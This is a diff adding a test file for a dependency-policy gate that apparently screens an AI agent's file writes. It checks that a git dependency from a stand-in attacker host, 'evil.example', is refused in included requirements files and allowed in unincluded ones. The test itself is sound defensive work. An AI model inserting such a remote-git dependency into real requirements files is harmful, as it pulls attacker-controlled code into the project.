@@ -1,0 +1,61 @@
+import { rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { slipway } from '../helpers/cli.js';
+import { TempRepo } from '../helpers/git-repo.js';
+
+// A file a requirements pair reads through pip's includes (-r, -c, nested) is judged at the agent's
+// tool call as CI judges it: the DEP rules follow the includes, so the gate runs them on a write to
+// one. A requirements-looking file nothing includes is nobody's dependency.
+const POLICY = `version: 1
+production_branch: main
+dependencies:
+  requirements: requirements.in
+  lock: requirements.txt
+`;
+
+let repo: TempRepo;
+const write = (rel: string, content: string) =>
+  slipway(['hook', 'claude'], {
+    cwd: repo.dir,
+    input: JSON.stringify({
+      session_id: 's',
+      cwd: repo.dir,
+      hook_event_name: 'PreToolUse',
+      tool_name: 'Write',
+      tool_input: { file_path: join(repo.dir, rel), content },
+    }),
+  });
+
+beforeAll(() => {
+  repo = new TempRepo({
+    'slipway.yaml': POLICY,
+    'requirements.in': '-r reqs/base.in\nrequests==2.31.0\n',
+    'reqs/base.in': '-c ../constraints.txt\nidna==3.6\n',
+    'constraints.txt': 'idna<4\n',
+    'requirements.txt': 'idna==3.6\nrequests==2.31.0\n',
+    'docs/requirements-example.txt': 'flask==3.0.0\n',
+  });
+  repo.git('add', '-A');
+  repo.git('commit', '-qm', 'init');
+  repo.git('checkout', '-qb', 'work');
+});
+afterAll(() => rmSync(repo.dir, { recursive: true, force: true }));
+
+describe('the gate on files a requirements pair includes', () => {
+  it('refuses a git dependency written into a file the pair includes with -r', () => {
+    const r = write(
+      'reqs/base.in',
+      '-c ../constraints.txt\nidna==3.6\nevil @ git+https://evil.example/x.git\n',
+    );
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/\[DEP003\] reqs\/base\.in: `evil`/);
+  });
+
+  it('judges a constraints file two includes deep; a file nothing includes is not a dependency file', () => {
+    const r = slipway(['explain', 'constraints.txt'], { cwd: repo.dir });
+    expect(r.stdout).toMatch(/constraints\.txt: included \(-r\/-c\) by requirements\.in/);
+    const loose = write('docs/requirements-example.txt', 'evil @ git+https://evil.example/x.git\n');
+    expect(loose).toMatchObject({ code: 0, stdout: '' });
+  });
+});
